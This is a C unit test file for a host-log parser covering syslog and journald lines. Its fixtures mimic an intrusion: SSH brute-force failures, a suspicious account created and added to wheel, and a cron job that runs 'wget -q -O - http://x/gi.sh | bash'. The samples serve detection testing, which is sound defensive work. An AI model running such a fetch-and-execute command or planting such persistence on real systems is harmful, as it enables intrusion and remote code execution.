/* test_syslog.c - host log lines (parse/syslog.h): rsyslog traditional
 * and RFC 3339 headers, journald JSON (MESSAGE as bytes too), every
 * message shape the detectors read, "message repeated", year-less
 * stamps across New Year, attribution helpers, and bad lines with a
 * reason. */
#include <stdio.h>
#include <stdlib.h>

#include "core/err.h"
#include "core/mtime.h"
#include "mmtest.h"
#include "parse/format.h"
#include "parse/syslog.h"

static char scratch_mem[1 << 16];

/* Dec 10 2026 00:00 UTC: the anchor for year-less stamps */
#define ANCHOR (mm_days_from_civil(2026, 12, 10) * 86400000LL)

static int parse(const char *s, struct mm_event *ev, struct mm_syslog_ctx *cx)
{
	struct mm_arena a;
	struct mm_err e;
	mm_arena_init(&a, scratch_mem, sizeof(scratch_mem));
	mm_err_clear(&e);
	if (s[0] == '{')
		return mm_journal_parse(cx, s, strlen(s), &a, ev, &e);
	return mm_syslog_parse(cx, s, strlen(s), &a, ev, &e);
}

static struct mm_syslog_ctx ctx(void)
{
	struct mm_syslog_ctx cx;
	memset(&cx, 0, sizeof(cx));
	cx.anchor_ms = ANCHOR;
	return cx;
}

MM_TEST(sshd_failed_and_accepted)
{
	struct mm_syslog_ctx cx = ctx();
	struct mm_event ev;
	char ip[64];
	CHECK_EQ_INT(parse("Dec  5 22:40:09 ip-10-0-1-23 sshd[2103]: Failed password for root from "
			   "203.0.113.77 port 50130 ssh2", &ev, &cx), 0);
	CHECK_EQ_INT(ev.kind, MM_EV_HOST);
	CHECK_EQ_INT(ev.u.host.what, MM_HOST_LOGIN_FAIL);
	CHECK_EQ_SLICE(ev.u.host.user, "root");
	CHECK_EQ_SLICE(ev.u.host.method, "password");
	CHECK_EQ_SLICE(ev.u.host.host, "ip-10-0-1-23");
	CHECK_EQ_SLICE(ev.u.host.program, "sshd");
	CHECK_EQ_INT(ev.u.host.pid, 2103);
	CHECK_EQ_INT(ev.u.host.rport, 50130);
	CHECK(ev.u.host.has_remote);
	CHECK_EQ_STR(mm_ip_format(&ev.u.host.remote, ip), "203.0.113.77");
	CHECK_EQ_INT(ev.u.host.time_ms,
		     (mm_days_from_civil(2026, 12, 5) * 86400 + 22 * 3600 + 40 * 60 + 9) * 1000);
	CHECK_EQ_INT(parse("Dec  5 22:48:54 web sshd[1]: Accepted publickey for git from 2001:db8::7 "
			   "port 50412 ssh2: RSA SHA256:abc", &ev, &cx), 0);
	CHECK_EQ_INT(ev.u.host.what, MM_HOST_LOGIN_OK);
	CHECK_EQ_SLICE(ev.u.host.method, "publickey");
	CHECK_EQ_SLICE(ev.u.host.user, "git");
	CHECK_EQ_STR(mm_ip_format(&ev.u.host.remote, ip), "2001:db8::7");
	CHECK_EQ_INT(parse("Dec  5 22:40:05 h sshd[2]: Failed password for invalid user admin from "
			   "203.0.113.77 port 50122 ssh2", &ev, &cx), 0);
	CHECK(ev.u.host.invalid_user);
	CHECK_EQ_SLICE(ev.u.host.user, "admin");
	CHECK_EQ_INT(parse("Dec  5 22:40:01 h sshd[2]: Invalid user oracle from 203.0.113.77 port 50122",
			   &ev, &cx), 0);
	CHECK(ev.u.host.invalid_user);
	CHECK_EQ_SLICE(ev.u.host.user, "oracle");
	CHECK_EQ_INT(ev.u.host.method.n, 0);
	CHECK_EQ_INT(parse("Dec  5 22:40:07 h sshd-session[2]: Connection closed by authenticating user "
			   "root 203.0.113.77 port 50122 [preauth]", &ev, &cx), 0);
	CHECK_EQ_SLICE(ev.u.host.method, "preauth");
	CHECK_EQ_SLICE(ev.u.host.user, "root");
	CHECK_EQ_INT(ev.u.host.rport, 50122);
	CHECK_EQ_INT(parse("Dec  5 22:40:03 h sshd[2]: pam_unix(sshd:auth): authentication failure; "
			   "logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.77  user=root", &ev, &cx), 0);
	CHECK_EQ_SLICE(ev.u.host.method, "pam");
	CHECK_EQ_SLICE(ev.u.host.user, "root");
	/* other lines: generic "line" events with program, pid, host, message
	 * (and nothing a failed kind parser half-filled) */
	CHECK_EQ_INT(parse("Dec  5 22:48:54 h sshd[2]: pam_unix(sshd:session): session opened for "
			   "user git(uid=1001) by (uid=0)", &ev, &cx), 0);
	CHECK_EQ_INT(ev.u.host.what, MM_HOST_LINE);
	CHECK_EQ_SLICE(ev.u.host.program, "sshd");
	CHECK_EQ_INT(ev.u.host.pid, 2);
	CHECK_EQ_SLICE(ev.u.host.host, "h");
	CHECK_EQ_SLICE(ev.u.host.message,
		       "pam_unix(sshd:session): session opened for user git(uid=1001) by (uid=0)");
	CHECK_EQ_INT(ev.u.host.user.n, 0);
	CHECK_EQ_INT(parse("Dec  5 22:55:00 h systemd-logind[612]: New session 12 of user git.", &ev, &cx),
		     0);
	CHECK_EQ_INT(ev.u.host.what, MM_HOST_LINE);
	CHECK_EQ_SLICE(ev.u.host.program, "systemd-logind");
	CHECK_EQ_SLICE(ev.u.host.message, "New session 12 of user git.");
	CHECK(ev.u.host.time_ms > 0);
	/* "Failed x" without " for ": sshd_msg gives up; a line, not a login */
	CHECK_EQ_INT(parse("Dec  5 22:55:01 h sshd[3]: Failed to bind 0.0.0.0 port 22", &ev, &cx), 0);
	CHECK_EQ_INT(ev.u.host.what, MM_HOST_LINE);
	CHECK_EQ_INT(ev.u.host.has_remote, 0);
	/* a tag without a pid; a kernel line */
	CHECK_EQ_INT(parse("Dec  5 22:55:02 h kernel: [1.2] vsftpd[9]: segfault at 0", &ev, &cx), 0);
	CHECK_EQ_INT(ev.u.host.what, MM_HOST_LINE);
	CHECK_EQ_SLICE(ev.u.host.program, "kernel");
	CHECK_EQ_INT(ev.u.host.pid, 0);
	CHECK_EQ_SLICE(ev.u.host.message, "[1.2] vsftpd[9]: segfault at 0");
	/* a kind's message keeps its text too */
	CHECK_EQ_INT(parse("Dec  5 22:55:03 h sshd[4]: Invalid user pi from 192.0.2.9", &ev, &cx), 0);
	CHECK_EQ_INT(ev.u.host.what, MM_HOST_LOGIN_FAIL);
	CHECK_EQ_SLICE(ev.u.host.message, "Invalid user pi from 192.0.2.9");
	/* still not a syslog line at all */
	CHECK_EQ_INT(parse("hello world", &ev, &cx), MM_EPARSE);
}

MM_TEST(message_repeated_counts)
{
	struct mm_syslog_ctx cx = ctx();
	struct mm_event ev;
	CHECK_EQ_INT(parse("Dec  5 22:40:12 h sshd[2103]: message repeated 5 times: [ Failed password "
			   "for root from 203.0.113.77 port 50130 ssh2]", &ev, &cx), 0);
	CHECK_EQ_INT(cx.repeat, 5);
	CHECK_EQ_INT(ev.u.host.what, MM_HOST_LOGIN_FAIL);
	CHECK_EQ_SLICE(ev.u.host.user, "root");
	CHECK_EQ_INT(parse("Dec  5 22:40:12 h sshd[2103]: message repeated 99999999 times: [ Failed "
			   "password for root from 203.0.113.77 port 1 ssh2]", &ev, &cx), 0);
	CHECK_EQ_INT(cx.repeat, MM_SYSLOG_REPEAT_MAX);
	CHECK_EQ_INT(parse("Dec  5 22:40:12 h sshd[2103]: Failed password for root from 203.0.113.77 "
			   "port 1 ssh2", &ev, &cx), 0);
	CHECK_EQ_INT(cx.repeat, 1);
}

MM_TEST(sudo_su_accounts)
{
	struct mm_syslog_ctx cx = ctx();
	struct mm_event ev;
	CHECK_EQ_INT(parse("Dec  5 22:49:10 h sudo[2230]:      git : TTY=pts/0 ; PWD=/home/git ; "
			   "USER=root ; COMMAND=/usr/sbin/useradd -m sysupd", &ev, &cx), 0);
	CHECK_EQ_INT(ev.u.host.what, MM_HOST_SUDO);
	CHECK_EQ_SLICE(ev.u.host.user, "git");
	CHECK_EQ_SLICE(ev.u.host.target_user, "root");
	CHECK_EQ_SLICE(ev.u.host.command, "/usr/sbin/useradd -m sysupd");
	CHECK_EQ_INT(parse("Dec  5 22:50:02 h su[2260]: pam_unix(su-l:session): session opened for user "
			   "root(uid=0) by git(uid=1001)", &ev, &cx), 0);
	CHECK_EQ_INT(ev.u.host.what, MM_HOST_SU);
	CHECK_EQ_SLICE(ev.u.host.target_user, "root");
	CHECK_EQ_SLICE(ev.u.host.user, "git");
	CHECK_EQ_INT(parse("Dec  5 09:15:44 h su: (to root) alice on pts/0", &ev, &cx), 0);
	CHECK_EQ_SLICE(ev.u.host.user, "alice");
	CHECK_EQ_SLICE(ev.u.host.target_user, "root");
	CHECK_EQ_INT(parse("Dec  5 22:49:10 h useradd[2231]: new user: name=sysupd, UID=1002, GID=1002, "
			   "home=/home/sysupd, shell=/bin/bash, from=/dev/pts/0", &ev, &cx), 0);
	CHECK_EQ_INT(ev.u.host.what, MM_HOST_USER_ADD);
	CHECK_EQ_SLICE(ev.u.host.target_user, "sysupd");
	CHECK_EQ_INT(parse("Dec  5 22:49:10 h useradd[2231]: new group: name=sysupd, GID=1002", &ev, &cx), 0);
	CHECK_EQ_INT(ev.u.host.what, MM_HOST_USER_ADD);
	CHECK_EQ_INT(parse("Dec  5 22:49:20 h usermod[2240]: add 'sysupd' to group 'wheel'", &ev, &cx), 0);
	CHECK_EQ_INT(ev.u.host.what, MM_HOST_USER_MOD);
	CHECK_EQ_SLICE(ev.u.host.target_user, "sysupd");
	CHECK_EQ_INT(parse("Dec  5 22:52:00 h userdel[2280]: delete user 'olduser'", &ev, &cx), 0);
	CHECK_EQ_INT(ev.u.host.what, MM_HOST_USER_DEL);
	CHECK_EQ_SLICE(ev.u.host.target_user, "olduser");
	CHECK_EQ_INT(parse("Dec  5 22:49:31 h passwd[2250]: pam_unix(passwd:chauthtok): password changed "
			   "for sysupd", &ev, &cx), 0);
	CHECK_EQ_INT(ev.u.host.what, MM_HOST_PASSWD);
	CHECK_EQ_SLICE(ev.u.host.target_user, "sysupd");
}

MM_TEST(cron_and_crontab)
{
	struct mm_syslog_ctx cx = ctx();
	struct mm_event ev;
	CHECK_EQ_INT(parse("Dec  5 22:55:01 h CROND[3200]: (git) CMD (wget -q -O - http://x/gi.sh | bash)",
			   &ev, &cx), 0);
	CHECK_EQ_INT(ev.u.host.what, MM_HOST_CRON_CMD);
	CHECK_EQ_SLICE(ev.u.host.user, "git");
	CHECK_EQ_SLICE(ev.u.host.command, "wget -q -O - http://x/gi.sh | bash");
	CHECK_EQ_INT(parse("2026-12-05T08:30:00.000401+00:00 web2 CRON[991]: (root) CMD (cd / && "
			   "run-parts --report /etc/cron.hourly)", &ev, &cx), 0);
	CHECK_EQ_SLICE(ev.u.host.command, "cd / && run-parts --report /etc/cron.hourly");
	CHECK_EQ_INT(ev.u.host.time_ms, (mm_days_from_civil(2026, 12, 5) * 86400 + 8 * 3600 + 30 * 60) *
						1000);
	CHECK_EQ_INT(parse("Dec  5 22:53:40 h crontab[3100]: (root) REPLACE (git)", &ev, &cx), 0);
	CHECK_EQ_INT(ev.u.host.what, MM_HOST_CRONTAB);
	CHECK_EQ_SLICE(ev.u.host.user, "root");
	CHECK_EQ_SLICE(ev.u.host.target_user, "git");
	CHECK_EQ_SLICE(ev.u.host.change, "REPLACE");
	CHECK_EQ_INT(parse("Dec  5 22:53:12 h crontab[3100]: (root) BEGIN EDIT (git)", &ev, &cx), 0);
	CHECK_EQ_SLICE(ev.u.host.change, "BEGIN EDIT");
	CHECK_EQ_INT(parse("Dec  5 22:54:01 h crond[890]: (git) RELOAD (/var/spool/cron/git)", &ev, &cx),
		     0);
	CHECK_EQ_INT(ev.u.host.what, MM_HOST_LINE);
	CHECK_EQ_SLICE(ev.u.host.message, "(git) RELOAD (/var/spool/cron/git)");
}

MM_TEST(journald_json)
{
	struct mm_syslog_ctx cx = ctx();
	struct mm_event ev;
	CHECK_EQ_INT(parse("{\"__REALTIME_TIMESTAMP\":\"1796510934123456\",\"SYSLOG_IDENTIFIER\":\"sshd\","
			   "\"_PID\":\"4101\",\"_HOSTNAME\":\"web\",\"MESSAGE\":\"Failed password for root "
			   "from 192.0.2.50 port 40100 ssh2\"}", &ev, &cx), 0);
	CHECK_EQ_INT(ev.u.host.what, MM_HOST_LOGIN_FAIL);
	CHECK_EQ_INT(ev.u.host.time_ms, 1796510934123LL);
	CHECK_EQ_INT(ev.u.host.pid, 4101);
	CHECK_EQ_SLICE(ev.u.host.host, "web");
	/* MESSAGE as bytes: "Invalid user pi from 192.0.2.50" */
	CHECK_EQ_INT(parse("{\"__REALTIME_TIMESTAMP\":\"1796510935123456\",\"SYSLOG_IDENTIFIER\":\"sshd\","
			   "\"MESSAGE\":[73,110,118,97,108,105,100,32,117,115,101,114,32,112,105,32,102,114,"
			   "111,109,32,49,57,50,46,48,46,50,46,53,48]}", &ev, &cx), 0);
	CHECK(ev.u.host.invalid_user);
	CHECK_EQ_SLICE(ev.u.host.user, "pi");
	CHECK(ev.u.host.has_remote);
	CHECK_EQ_INT(parse("{\"__REALTIME_TIMESTAMP\":\"1\",\"MESSAGE\":[1,999]}", &ev, &cx) < 0, 1);
	CHECK_EQ_INT(parse("{\"MESSAGE\":\"x\"}", &ev, &cx), MM_EPARSE);
	CHECK_EQ_INT(parse("{\"__REALTIME_TIMESTAMP\":\"1\",\"SYSLOG_IDENTIFIER\":\"systemd\","
			   "\"MESSAGE\":\"Started\"}", &ev, &cx), 0);
	CHECK_EQ_INT(ev.u.host.what, MM_HOST_LINE);
	CHECK_EQ_SLICE(ev.u.host.program, "systemd");
	CHECK_EQ_SLICE(ev.u.host.message, "Started");
	CHECK_EQ_INT(ev.u.host.time_ms, 0);
}

MM_TEST(year_resolution)
{
	int64_t jan2 = mm_days_from_civil(2027, 1, 2) * 86400000LL;
	/* a file written on Jan 2 2027 holding Dec 31 lines: 2026 */
	CHECK_EQ_INT(mm_syslog_resolve_year(12, 31, 3600, jan2),
		     (mm_days_from_civil(2026, 12, 31) * 86400 + 3600) * 1000);
	CHECK_EQ_INT(mm_syslog_resolve_year(1, 1, 0, jan2), mm_days_from_civil(2027, 1, 1) * 86400000LL);
	/* a day of clock skew is tolerated */
	CHECK_EQ_INT(mm_syslog_resolve_year(1, 3, 0, jan2), mm_days_from_civil(2027, 1, 3) * 86400000LL);
	CHECK_EQ_INT(mm_syslog_resolve_year(1, 4, 0, jan2), mm_days_from_civil(2026, 1, 4) * 86400000LL);
}

MM_TEST(bad_lines_and_detection)
{
	struct mm_syslog_ctx cx = ctx();
	struct mm_event ev;
	const char *sl = "Dec  5 22:40:09 h sshd[1]: Failed password for root from 1.2.3.4 port 1 ssh2\n";
	const char *jl = "{\"__REALTIME_TIMESTAMP\":\"1\",\"MESSAGE\":\"x\"}\n";
	CHECK_EQ_INT(parse("this is not a syslog line", &ev, &cx), MM_EPARSE);
	CHECK_EQ_INT(parse("Dec 45 22:40:09 h sshd[1]: x", &ev, &cx), MM_EPARSE);
	CHECK_EQ_INT(parse("Dec  5 22:40:09 h", &ev, &cx), MM_EPARSE);
	CHECK_EQ_INT(mm_format_detect("x", sl, strlen(sl), MM_SRC_AUTO), MM_FMT_SYSLOG);
	CHECK_EQ_INT(mm_format_detect("x", jl, strlen(jl), MM_SRC_AUTO), MM_FMT_JOURNAL);
	CHECK_EQ_INT(mm_format_detect("x", sl, strlen(sl), MM_SRC_FLOW) != MM_FMT_SYSLOG, 1);
}

MM_TEST(attribution_helpers)
{
	char out[32];
	struct mm_ip ip;
	char s[64];
	CHECK_EQ_INT(mm_syslog_instance_from_path("/logs/i-0123456789abcdef0/var/log/secure", out,
						  sizeof(out)), 1);
	CHECK_EQ_STR(out, "i-0123456789abcdef0");
	CHECK_EQ_INT(mm_syslog_instance_from_path("i-1234abcd/secure", out, sizeof(out)), 1);
	CHECK_EQ_STR(out, "i-1234abcd");
	CHECK_EQ_INT(mm_syslog_instance_from_path("/logs/i-xyz/secure", out, sizeof(out)), 0);
	CHECK_EQ_INT(mm_syslog_instance_from_path("/logs/ami-01234567/secure", out, sizeof(out)), 0);
	CHECK_EQ_INT(mm_syslog_host_ip(mm_str_c("ip-10-0-1-23"), &ip), 0);
	CHECK_EQ_STR(mm_ip_format(&ip, s), "10.0.1.23");
	CHECK_EQ_INT(mm_syslog_host_ip(mm_str_c("ip-10-0-1-23.ec2.internal"), &ip), 0);
	CHECK_EQ_INT(mm_syslog_host_ip(mm_str_c("ip-10-0-1"), &ip), MM_EPARSE);
	CHECK_EQ_INT(mm_syslog_host_ip(mm_str_c("web1"), &ip), MM_EPARSE);
}
